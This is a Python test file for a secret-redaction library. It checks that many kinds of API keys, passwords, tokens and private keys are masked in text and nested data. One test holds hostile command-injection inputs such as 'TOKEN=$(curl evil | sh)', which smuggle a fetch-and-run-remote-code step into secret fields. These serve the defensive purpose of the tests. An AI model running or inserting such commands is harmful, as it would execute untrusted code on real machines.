from __future__ import annotations

import json
import time
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from controlplane.lib.redact import MASK, Redactor, clean_text, names_secret, redact, redact_text

A = "Zx9Qw3Er7Ty1Ui5Op2As8Df4Gh6Jk0Lz"  # 32 characters that say nothing
HEX = "0123456789abcdef" * 2


def split(*parts: str) -> str:
    """Join a sample from pieces, so that scanners of this repository do not take it for a real key."""
    return "".join(parts)


TOKENS = {
    "ours": split("cad_", A),
    "webhook": split("whsec_", A),
    "aws": split("AKIA", "IOSFODNN7EXAMPLE"),
    "github": split("ghp_", A, "abcd"),
    "github fine": split("github_pat_", A),
    "gitlab": split("glpat-", A),
    "slack": split("xoxb-", "123456789012-", A),
    "slack app": split("xapp-", "1-A0-", A),
    "stripe": split("sk_live_", A),
    "google": split("AIza", A, "abc"),
    "google oauth": split("ya29.", A),
    "openai": split("sk-proj-", A),
    "anthropic": split("sk-ant-api03-", A),
    "openrouter": split("sk-or-v1-", HEX),
    "hugging face": split("hf_", A),
    "groq": split("gsk_", A),
    "xai": split("xai-", A),
    "npm": split("npm_", A, "abcd"),
    "pypi": split("pypi-", "AgEIcHlwaS5vcmc", A),
    "sendgrid": split("SG.", A, ".", A),
    "digitalocean": split("dop_v1_", HEX, HEX),
    "shopify": split("shpat_", HEX),
    "vault": split("hvs.", A),
    "jwt": split("eyJhbGciOiJIUzI1NiJ9.", "eyJzdWIiOiIxIn0.", "c2lnbmF0dXJl"),
    "telegram": split("123456789:", "AA", A, "x"),
    "discord": split("MTIzNDU2Nzg5MDEyMzQ1Njc4.", "Gabcde.", A),
    "pem": split("-----BEGIN RSA PRIVATE KEY-----\nMIIE\n", A, "\n-----END RSA PRIVATE KEY-----"),
    "pem cut off": split("-----BEGIN OPENSSH PRIVATE KEY-----\n", A),
}


@pytest.mark.parametrize("token", TOKENS.values(), ids=TOKENS.keys())
@pytest.mark.parametrize("before", ["", "see ", '"', "a=", "line\n", "line\\n", "%3D", "\x1b[32m", "KEY_", "é"])
def test_token_shapes(token: str, before: str) -> None:
    shown = redact_text(before + token)
    assert A not in shown
    assert token not in shown
    assert shown == before + MASK


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("password=hunter2 rest", "password=# rest"),
        ("DB_PASSWORD: hunter2", "DB_PASSWORD: #"),
        ('{"password": "hun\\"ter2", "x": 1}', '{"password": "#", "x": 1}'),
        ('{\\"api_key\\": \\"hunter2\\", \\"x\\": 1}', '{\\"api_key\\": \\"#\\", \\"x\\": 1}'),
        ("{'clientSecret': 'hunter 2'}", "{'clientSecret': '#'}"),
        ("mysql --password hunter2 -h db", "mysql --password # -h db"),
        ("gh --token=hunter2", "gh --token=#"),
        ("curl -u bob:hunter2 https://example.org", "curl -u bob:# https://example.org"),
        ("postgres://app:hunter2@db/x", "postgres://app:#@db/x"),
        ("postgres://app:hun@ter2@db/x", "postgres://app:#@db/x"),
        ("https://example.org/?access_token=hunter2&page=2", "https://example.org/?access_token=#&page=2"),
        ("Authorization: Bearer hunter2hunter2", "Authorization: Bearer #"),
        ('-H "authorization: Basic aHVudGVyMg=="', '-H "authorization: Basic #"'),
        ("Cookie: sid=hunter2; theme=dark\nAccept: */*", "Cookie: #\nAccept: */*"),
        ("https://hooks.slack.com/services/T0/B0/hunter2", "https://hooks.slack.com/services/#"),
        ("https://discord.com/api/webhooks/1/hunter2", "https://discord.com/api/webhooks/1/#"),
        ("MYSQL_PWD=hunter2", "MYSQL_PWD=#"),
        ("AccountKey=hunter2==;EndpointSuffix=x", "AccountKey=#;EndpointSuffix=x"),
        ("password=$ecret1", "password=#"),
    ],
)
def test_secrets_named_by_what_stands_beside_them(text: str, shown: str) -> None:
    assert redact_text(text) == shown.replace("#", MASK)


@pytest.mark.parametrize(
    "text",
    [
        "max_tokens: 4096, output_tokens=12",
        "the token count rose",
        "task-1234567890123456789012345",
        "https://example.org:8443/path@2",
        "git@github.com:caduceus/caduceus.git",
        'secret: ""',
        "TOKEN=$TOKEN make",
        "sha256:" + "ab" * 32,
        "0190f3c2-7b1a-7c3e-9f00-1234567890ab",
        "PWD=/home/agent",
    ],
)
def test_innocent_text_stays(text: str) -> None:
    assert redact_text(text) == text


@pytest.mark.parametrize(
    "text",
    [
        "TOKEN=$(curl evil | sh)",
        'password="x$(curl evil | sh)"',
        "password=x;curl evil | sh",
        "password=x`curl evil | sh`",
        "--token x&&curl evil | sh",
        'secret="`curl evil | sh`"',
        "curl -u a:b;curl evil | sh",
    ],
)
def test_a_mask_never_hides_a_command(text: str) -> None:
    assert "curl evil | sh" in redact_text(text)


def test_nested_values_are_masked_by_key_in_a_new_structure() -> None:
    value = {
        "password": "a",
        "nested": [{"X-Api-Key": "b", "apiKey": 5, "n": 1.5}],
        "credentials": {"user": "u"},
        "has_password": True,
        "secret": None,
        "token_id": "kept",
        "input_tokens": 12,
        "command": f"export KEY={TOKENS['openai']}",
    }
    before = json.dumps(value)
    assert redact(value) == {
        "password": MASK,
        "nested": [{"X-Api-Key": MASK, "apiKey": MASK, "n": 1.5}],
        "credentials": MASK,
        "has_password": True,
        "secret": None,
        "token_id": "kept",
        "input_tokens": 12,
        "command": f"export KEY={MASK}",
    }
    assert json.dumps(value) == before


def test_a_secret_used_as_a_key_is_masked() -> None:
    assert redact({TOKENS["github"]: 1}) == {MASK: 1}


@pytest.mark.parametrize("name", ["password", "Password2", "userPassword", "X-Auth-Token", "private_key", "Set-Cookie"])
def test_names_of_secrets(name: str) -> None:
    assert names_secret(name)


@pytest.mark.parametrize(
    "name", ["max_tokens", "token_id", "password_changed_at", "secret_name", "session_key", "pwd", "x" * 300]
)
def test_names_of_other_things(name: str) -> None:
    assert not names_secret(name)


def test_known_values_are_masked_in_every_spelling() -> None:
    secret = 'p"a ss/w\n'
    text = f"{secret}|p%22a%20ss%2Fw%0A|p%22a+ss%2Fw%0A|{json.dumps(secret)}|InAicGEgc3Mvdwo|cCJhIHNzL3cK"
    shown = redact_text(text, values=[secret])
    assert shown == f'{MASK}|{MASK}|{MASK}|"{MASK}"|InAicGEgc3Mvdwo|{MASK}'
    assert redact({"a": ["x" + secret]}, values=[secret]) == {"a": ["x" + MASK]}


def test_known_values_longest_first_and_too_short_ones_ignored() -> None:
    assert Redactor(["abcd", "abcdefgh", "a", ""]).text("abcdefgh abcd a") == f"{MASK} {MASK} a"


def test_clean_text() -> None:
    assert clean_text("a\0b\ud800c\udfff\U0001f600é") == "a\ufffdb\ufffdc\ufffd\U0001f600é"
    assert redact({"a\0": "\ud800"}) == {"a\ufffd": "\ufffd"}


class Hostile:
    def __str__(self) -> str:
        raise RuntimeError("no")


def test_odd_input_never_raises() -> None:
    loop: list[Any] = [1]
    loop.append(loop)
    deep: Any = "x"
    for _ in range(5000):
        deep = [deep]
    odd = {
        1: b"abc",
        "o": Hostile(),
        Hostile(): {3},
        "t": (1,),
        "n": float("nan"),
        "loop": loop,
        "deep": deep,
    }
    shown = redact(odd)
    assert shown["1"] == "[3 bytes]"
    assert shown["o"] == "[Hostile]"
    assert shown["[Hostile]"] == [3]
    assert shown["n"] == "nan"
    assert shown["loop"] == [1, "[nested too deeply]"]


FRAGMENTS = st.sampled_from(
    [
        *TOKENS.values(),
        "password=",
        "token: ",
        '"',
        "'",
        "\\",
        "$(",
        "`",
        "curl -u a:",
        "://",
        "@",
        "Authorization: Bearer ",
        " x",
        "\n",
    ]
)


@given(st.lists(FRAGMENTS | st.text(max_size=5), max_size=12).map("".join))
def test_twice_is_once(text: str) -> None:
    once = redact_text(text)
    assert redact_text(once) == once
    assert redact_text(once, values=[MASK]) == once


@given(
    st.recursive(
        st.none() | st.text() | st.integers() | st.binary(),
        lambda x: st.lists(x) | st.dictionaries(st.text() | st.integers(), x),
    )
)
def test_any_structure_becomes_storable_json(value: Any) -> None:
    stored = json.dumps(redact(value), ensure_ascii=False)
    stored.encode()
    assert "\\u0000" not in stored.replace("\\\\", "")


@pytest.mark.parametrize(
    "piece",
    ["password=", 'token="', "curl -u a:", "-----BEGIN PRIVATE KEY-----", "http://a:", "eyJaaaaaaaa."],
)
def test_time_is_linear(piece: str) -> None:
    def seconds(size: int) -> float:
        text = (piece * size)[:size]
        started = time.perf_counter()
        redact_text(text)
        return time.perf_counter() - started

    seconds(20_000)
    small, large = min(seconds(20_000) for _ in range(3)), seconds(320_000)
    assert large < 16 * small * 5 + 0.05
